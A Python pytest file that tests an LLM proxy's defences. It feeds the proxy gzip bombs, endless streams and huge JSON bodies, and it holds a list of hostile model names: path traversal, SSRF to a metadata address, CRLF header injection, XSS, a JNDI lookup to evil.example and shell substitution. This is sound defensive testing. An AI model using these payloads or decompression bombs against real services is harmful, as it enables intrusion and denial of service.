"""Answers that never end or are far too large: they are cut, and memory stays where it was."""

from __future__ import annotations

import gzip
import itertools
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Self

import pytest

from tests.fakes.server import Answer, Fault
from tests.security.kit import (
    SOAK,
    Fakes,
    Process,
    Reply,
    Threaded,
    Wait,
    ask,
    body_of,
    post,
    process,
    request,
)

MIB = 2**20
SSE = ("content-type", "text/event-stream")
NDJSON = ("content-type", "application/x-ndjson")
JSON = ("content-type", "application/json")
KINDS = (SSE, SSE, NDJSON)
PIECE = b"x" * MIB
ALONE = {"x-pointsman-fallback": "off"}
NAMES = {"groq": "groq", "gemini": "gemini", "ollama": "ollama/llama3.2"}


class Repeated(tuple[bytes, ...]):
    """`times` pieces without the memory for them."""

    times: int

    def __new__(cls, piece: bytes, times: int) -> Self:
        made = super().__new__(cls, (piece,))
        made.times = times
        return made

    def __iter__(self) -> Iterator[bytes]:
        return itertools.repeat(self[0], self.times)


def large(content_type: tuple[str, str], piece: bytes, times: int, start: bytes = b"") -> Answer:
    return Answer(200, (content_type,), Repeated(piece, times), chunked=True)


def gzip_bomb(content_type: tuple[str, str]) -> Answer:
    packed = gzip.compress(b" " * (200 * MIB), 9)
    return Answer(200, (content_type, ("content-encoding", "gzip")), (packed,))


def groq_words() -> bytes:
    delta = {"choices": [{"index": 0, "delta": {"content": "word " * 3000}}]}
    return b"data: " + json.dumps({"id": "x", **delta}).encode() + b"\n\n"


def gemini_words() -> bytes:
    part = {"candidates": [{"index": 0, "content": {"parts": [{"text": "word " * 3000}]}}]}
    return b"data: " + json.dumps(part).encode() + b"\r\n\r\n"


def ollama_words() -> bytes:
    message = {"role": "assistant", "content": "word " * 3000}
    return json.dumps({"model": "llama3.2", "message": message, "done": False}).encode() + b"\n"


def many_values() -> tuple[Answer, ...]:
    return tuple(
        large(JSON, b'{"a":[' + value * count + b"1]}", 1)
        for value, count in ((b"[],", 10_000_000), (b"{},", 10_000_000), (b"1.5,", 7_500_000))
    )


def words_without_end() -> tuple[Answer, ...]:
    return (
        large(SSE, groq_words(), 20_000),
        large(SSE, gemini_words(), 20_000),
        large(NDJSON, ollama_words(), 20_000),
    )


def refusals() -> tuple[Answer, ...]:
    return tuple(
        Answer(status, (JSON,), Repeated(PIECE, 300), chunked=True) for status in (500, 400, 503)
    )


def nothing_without_end() -> tuple[Answer, ...]:
    return (
        large(SSE, b"\n" * MIB, 300),
        large(SSE, b": hello\n\n" * 100_000, 300),
        large(NDJSON, b"\n" * MIB, 300),
    )


BOMBS: dict[str, Callable[[], tuple[Answer, ...]]] = {
    "300 MB whole": lambda: (large(JSON, PIECE, 300),) * 3,
    "a line of 100 MB": lambda: tuple(large(kind, PIECE, 100) for kind in KINDS),
    "a gzip bomb": lambda: tuple(gzip_bomb(kind) for kind in (JSON, SSE, NDJSON)),
    "an endless stream": words_without_end,
    "a JSON of many small values": many_values,
    "300 MB of a refusal": refusals,
}
"""What Groq, Gemini and Ollama send, made when it is wanted: it takes seconds and memory."""

if SOAK:
    BOMBS["empty lines without end"] = nothing_without_end


@pytest.fixture
def one(fakes: Fakes, tmp_path: Path) -> Iterator[Process]:
    with process(fakes, tmp_path) as running:
        ask(running.port, request("GET", "/v1/models"))  # lists are asked for now, and no more
        for name in NAMES.values():  # what comes in with the first call is no growth
            assert ask(running.port, post(body_of(name))).status == 200
        fakes.forget()
        yield running


@pytest.mark.heavy
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("bomb", BOMBS)
def test_an_answer_that_is_too_large_ends_in_an_error_and_costs_no_memory(
    one: Process, fakes: Fakes, wait: Wait, bomb: str, stream: bool
) -> None:
    before = one.rss_bytes()
    peak = before
    for (_, fake), model, answer in zip(
        fakes.by_name.items(), NAMES.values(), BOMBS[bomb](), strict=True
    ):
        calls, idle = fakes.chats, fake.counts.open
        fake.script.clear()
        fake.then(*[Fault(answer)] * 4)
        reply, most = watched(
            one, post(body_of(model, stream=stream), **{"x-pointsman-fallback": "off"})
        )
        peak = max(peak, most)
        assert reply.status in (200, 400, 502, 503), reply.status
        assert fakes.chats > calls
        if reply.status == 200:
            last = reply.body.split(b"\n\n")[-2]
            assert json.loads(last.removeprefix(b"data: "))["error"]["code"], last[:300]
        else:
            assert reply.json["error"]["message"]
        fake.script.clear()
        most_open = max(idle, 1)
        wait(lambda fake=fake, most=most_open: fake.counts.open <= most)  # type: ignore[misc] # bound to this one
    assert peak - before < 100 * MIB


def watched(one: Process, data: bytes) -> tuple[Reply, int]:
    """The answer, and the most memory that was held until it had come."""
    replies: list[Reply] = []
    asking = threading.Thread(target=lambda: replies.append(ask(one.port, data)))
    asking.start()
    most = one.rss_bytes()
    while asking.is_alive():
        asking.join(0.01)
        most = max(most, one.rss_bytes())
    return replies[0], most


@pytest.mark.heavy
@pytest.mark.parametrize("value", [b"[]", b"{}", b"1.5", b'{"a":1}', b'"\xc3\xa9"'])
def test_a_body_of_many_small_values_costs_neither_memory_nor_time(
    one: Process, fakes: Fakes, value: bytes
) -> None:
    many = (value + b",") * (30 * MIB // (len(value) + 1))
    hello = json.dumps(body_of()).encode()
    before = one.rss_bytes()
    reply, most = watched(one, post(hello[:-1] + b', "metadata": [' + many + b"1]}"))
    assert (reply.status, reply.code) == (400, "invalid_json")
    assert most - before < 150 * MIB
    assert fakes.chats == 0


HOSTILE_NAMES = (
    "",
    " ",
    "..",
    "../x",
    "a/../b",
    "groq/../../admin",
    "x#frag",
    "gemini/x#frag",
    "x?key=1",
    "gemini/x?alt=sse",
    "x&y",
    "x%2e%2e",
    "gemini/%2e%2e%2ftunedModels",
    "a//b",
    "//evil.example/x",
    "http://evil.example/x",
    "groq/http://169.254.169.254/",
    "a\r\nX-Evil: 1",
    "a\nb",
    "a\x00b",
    "a\tb",
    "a b",
    "é",
    "\u202egnp",
    "\ufeffx",
    "a\u2028b",
    "x" * 129,
    "x" * 100_000,
    "-x",
    ".x",
    "/x",
    "@x",
    "x;y",
    "x'y",
    'x"y',
    "x\\y",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "x|y",
    "x`id`",
    "$(id)",
    "gemini/models/../../x",
    "tunedModels/../z",
)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_no_hostile_name_of_a_model_reaches_a_provider(
    server: Threaded, fakes: Fakes, stream: bool
) -> None:
    assert len(set(HOSTILE_NAMES)) >= 40
    for name in HOSTILE_NAMES:
        reply = ask(server.port, post(body_of(name, stream=stream)))
        assert reply.status in (400, 404), (name, reply)
        assert "x-evil" not in reply.headers
        assert reply.json["error"]["param"] == "model"
    for value in (None, 1, [], {}, True):
        assert ask(server.port, post(body_of() | {"model": value})).status == 400
    for name in HOSTILE_NAMES:
        # Without a name it is the path of the list.
        if name and name.isascii() and name.isprintable() and not set(name) & set(" #?"):
            path = f"/v1/models/{name}"
            assert ask(server.port, request("GET", path)).status in (400, 404, 431), name
    assert fakes.chats == 0
